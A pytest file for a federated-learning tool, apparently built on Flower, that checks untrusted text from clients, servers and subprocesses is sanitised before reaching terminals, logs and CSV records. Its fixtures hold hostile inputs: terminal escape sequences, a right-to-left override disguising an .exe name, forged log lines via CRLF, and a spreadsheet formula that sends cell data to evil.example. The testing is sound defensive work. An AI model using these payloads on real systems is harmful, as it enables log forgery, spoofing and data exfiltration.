"""What another party says is shown, logged and written so that it poses as nothing else: no escapes, no forged lines, no formulas."""

from __future__ import annotations

import asyncio
import csv
import io
import subprocess
import sys
from pathlib import Path
from typing import Any

import httpx
import pytest
from flwr.app import ConfigRecord, Error, Message, MetricRecord, RecordDict
from flwr.supercore.task_identity import TaskIdentity
from rich.console import Console

from fedveil import machines
from fedveil.client.node import greeting
from fedveil.client.node.greeting import Address
from fedveil.client.node.relay import Relay
from fedveil.core.errors import DeploymentError, ProtectionError
from fedveil.core.foreign import WORDS, cell, legible, printable
from fedveil.core.record.record import Record
from fedveil.core.subprocesses import Child, log_file
from fedveil.datasets.own.local import differences
from fedveil.remote import Server
from fedveil.server.exchange import exchange
from fedveil.server.serving.node_gateway import NodeGateway

FORGED = "2026-11-27 12:00:00,000 done     5 rounds in 1.0 s"
# a title of the terminal, red letters, C1's way to begin them, right to left, a line of ours, and a line separator
WORDS_OF_A_LIAR = f"no\x1b]0;owned\x07\x1b[31mred\x9b31m\u202egnp.exe\r\n{FORGED}\n\u2028{FORGED}\x00[bold]"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture(autouse=True)
def _in_a_run(monkeypatch: pytest.MonkeyPatch) -> None:
    """Flower's messages ask which run they are of."""
    for name, value in (("_run_id", 1), ("_node_id", 0), ("_task_id", 1)):
        monkeypatch.setattr(TaskIdentity, name, value)


def harmless(text: str, lines: int = 1) -> None:
    """Fail where text has a character that a terminal obeys, or more lines than ours."""
    assert all(character.isprintable() or character == "\n" for character in text), ascii(text)
    assert len(text.rstrip("\n").splitlines()) == lines, text
    assert not any(line.startswith(FORGED) for line in text.splitlines()), text


def test_the_liars_words_lose_what_a_terminal_obeys_and_keep_what_people_read() -> None:
    harmless(printable(WORDS_OF_A_LIAR, WORDS))
    harmless(legible(WORDS_OF_A_LIAR.replace("\n", " ")))
    assert printable("größer als 3 → 4", 40) == "größer als 3 → 4"
    assert legible("two\n  lines") == "two\n  lines"
    assert len(printable("x" * 10**7, WORDS)) == WORDS


@pytest.mark.parametrize("text", [FORMULA, "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "  =1+1", "\x00=1"])
def test_a_cell_is_no_formula(text: str) -> None:
    kept = str(cell(text))
    assert not kept.lstrip().startswith(("=", "+", "-", "@"))
    harmless(kept)


def test_a_cell_that_is_a_number_or_a_plain_text_stays() -> None:
    assert [cell(value) for value in (-1.5, None, 3, True, "train")] == [-1.5, None, 3, True, "train"]


class LyingClient:
    """A grid whose one client answers with words of its own: as a refusal, or in a reply that cannot be used."""

    def __init__(self, words: str, *, refuses: bool) -> None:
        self._words, self._refuses = words, refuses

    def answers(self, messages: list[Message], timeout: float | None) -> Any:
        for index, message in enumerate(messages):
            message.metadata.__dict__["_message_id"] = "0" * 64
            if self._refuses:
                yield index, Message(Error(1, self._words), reply_to=message)
            else:
                yield (
                    index,
                    Message(RecordDict({"metrics": MetricRecord({"seconds": 1.0, "client": 0})}), reply_to=message),
                )


@pytest.mark.parametrize("words", [WORDS_OF_A_LIAR, FORMULA, "x" * 10**6], ids=["escapes", "formula", "long"])
def test_a_clients_refusal_reaches_the_record_as_one_harmless_cell(words: str, tmp_path: Path) -> None:
    message = Message(RecordDict({"config": ConfigRecord({})}), dst_node_id=1, message_type="train")
    exchanged, _ = exchange(LyingClient(words, refuses=True), [message], 1, "train", 5)  # type: ignore[arg-type]
    record = Record(tmp_path)
    record.append("ledger.csv", exchanged.ledger)
    text = (tmp_path / "ledger.csv").read_text()
    harmless(text, lines=2)
    (row,) = csv.DictReader(io.StringIO(text))
    assert row["failure"]
    assert not row["failure"].startswith(("=", "+", "-", "@"))
    assert len(row["failure"]) <= WORDS + 1
    (failure,) = exchanged.failures
    harmless(failure)


def test_words_that_are_quoted_from_a_reply_are_harmless_too() -> None:
    message = Message(RecordDict({"config": ConfigRecord({})}), dst_node_id=1, message_type="train")

    def take(_client: int, _reply: Message) -> None:
        raise ProtectionError(f"its reply says {WORDS_OF_A_LIAR}")

    exchanged, _ = exchange(LyingClient("", refuses=False), [message], 1, "train", 5, take)  # type: ignore[arg-type]
    harmless(exchanged.failures[0])
    for line in differences({"classes": "a"}, {"classes": WORDS_OF_A_LIAR, WORDS_OF_A_LIAR: "x"}):
        harmless(line)


def test_no_line_of_a_log_is_anothers(tmp_path: Path) -> None:
    log_file("test", tmp_path / "one.log").info("client-1 was refused: %s", WORDS_OF_A_LIAR)
    lines = (tmp_path / "one.log").read_text().split("\n")
    assert lines[0].partition(" ")[0].count("-") == 2  # begins with the date
    assert all(line.startswith("  ") or not line for line in lines[1:])
    assert all(character.isprintable() for line in lines for character in line)


def test_what_a_process_writes_is_harmless_in_its_log_and_in_an_error(tmp_path: Path) -> None:
    code = f"print({WORDS_OF_A_LIAR!r})"
    child = Child("liar", [sys.executable, "-X", "utf8", "-c", code], tmp_path / "liar.log")
    child.process.wait()
    child.ended()
    child._reader.join()
    for text in (*child.tail, *(tmp_path / "liar.log").read_text().split("\n")):
        assert all(character.isprintable() for character in text), ascii(text)
        assert not text.startswith(FORGED) or text in child.tail


def test_the_path_of_a_strangers_call_is_one_line_of_the_gateways_log(tmp_path: Path) -> None:
    log = log_file("gateway", tmp_path / "gateway.log")
    gateway = NodeGateway(None, {}, {}, 1, log)  # type: ignore[arg-type]

    async def call() -> int:
        transport = httpx.ASGITransport(gateway.app)
        async with httpx.AsyncClient(base_url="http://server", transport=transport) as client:
            return (await client.post(f"/%1b[31m%0d%0a{FORGED.replace(' ', '%20')}")).status_code

    assert asyncio.run(call()) == 404
    harmless((tmp_path / "gateway.log").read_text())


def lying_server(body: Any, status: int = 200) -> Server:
    """The control server of a liar."""
    server = Server("localhost")
    handler = httpx.MockTransport(lambda _request: httpx.Response(status, json=body))
    headers = {"authorization": "Bearer none"}
    server._client = httpx.Client(base_url="http://localhost:9093", transport=handler, headers=headers)
    return server


def test_what_a_server_tells_the_command_line_is_harmless(monkeypatch: pytest.MonkeyPatch, capsys: Any) -> None:
    one = {"client": 0, "address": WORDS_OF_A_LIAR, "connected": True, "starts": 1, "seen_seconds_ago": 1.0}
    run = {"run": WORDS_OF_A_LIAR, "status": "running", "round": 1, "rounds": 2, "scores": {}, "seconds": 1.0}
    told = {
        "fedveil": WORDS_OF_A_LIAR, "up_seconds": 1.0, "state": WORDS_OF_A_LIAR, "clients": [one], "runs": [run],
        "refused": [{"client": 0, "reason": WORDS_OF_A_LIAR}], "status": "done", "offset": 9, "text": "",
    }  # fmt: skip
    monkeypatch.setattr("fedveil.remote.Server", lambda _on: lying_server(told))
    machines.status()
    said = capsys.readouterr().out
    assert all(character.isprintable() or character == "\n" for character in said), ascii(said)
    assert "[bold]" in said  # no markup of ours
    with pytest.raises(DeploymentError) as caught:
        lying_server({"error": WORDS_OF_A_LIAR}, 409).ask("/status")
    assert all(character.isprintable() or character == "\n" for character in str(caught.value))
    console = Console(file=io.StringIO(), force_terminal=True)
    machines._print(console, WORDS_OF_A_LIAR)
    assert "\x1b]0" not in console.file.getvalue()  # type: ignore[attr-defined]


def test_a_run_log_of_a_liar_is_harmless() -> None:
    texts = iter([f"{FORGED}\n2026-11-27 12:00:01,000 {WORDS_OF_A_LIAR}\n", ""])

    class Told(Server):
        def ask(self, path: str, body: dict[str, Any] | None = None) -> dict[str, Any]:
            return {"status": "done", "text": next(texts), "offset": 1} if "offset" in path else {"status": "done"}

    for line in Told("localhost").log("r", following=False):
        assert all(character.isprintable() for character in line), ascii(line)


@pytest.mark.parametrize(
    "told",
    [
        {"error": WORDS_OF_A_LIAR}, {"fedveil": WORDS_OF_A_LIAR, "code": WORDS_OF_A_LIAR, "time": 1, "client": 0, "quiet": 0},
        {"fedveil": "1", "time": "now", "client": 0, "quiet": 0}, {"fedveil": "1", "time": 1, "client": "one", "quiet": 0},
        {}, [], "text",
    ],
)  # fmt: skip
def test_what_a_server_answers_a_greeting_is_harmless(told: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    status = 401 if "error" in told else 200
    monkeypatch.setattr(greeting, "_reach", lambda *_: None)
    transport = httpx.MockTransport(lambda _request: httpx.Response(status, json=told))
    real = httpx.Client
    monkeypatch.setattr(httpx, "Client", lambda **_: real(transport=transport))
    monkeypatch.setattr(greeting, "_signed", lambda *_: {})
    monkeypatch.setattr("ssl.create_default_context", lambda **_: False)
    with pytest.raises(DeploymentError) as caught:
        greeting.greet(Address("server", 1), Path("keys"))
    harmless(str(caught.value))


def test_what_a_client_tells_its_owner_of_a_servers_words_is_one_line() -> None:
    said: list[str] = []
    relay = Relay("127.0.0.1:1", b"0" * 32, lambda _request: None, said.append)  # type: ignore[arg-type, return-value]
    relay._once(f"refused: model.name = '{WORDS_OF_A_LIAR}'")
    harmless(said[0])


def test_an_error_that_ends_a_command_is_harmless(tmp_path: Path) -> None:
    # the name of a file, as a stand-in for what a party may name
    done = subprocess.run(
        [sys.executable, "-m", "fedveil", "run", "no\x1b[31m\u202e.toml"], capture_output=True, text=True, check=False, cwd=tmp_path
    )  # fmt: skip
    assert done.returncode == 2
    assert "\x1b" not in done.stderr
    assert "\u202e" not in done.stderr
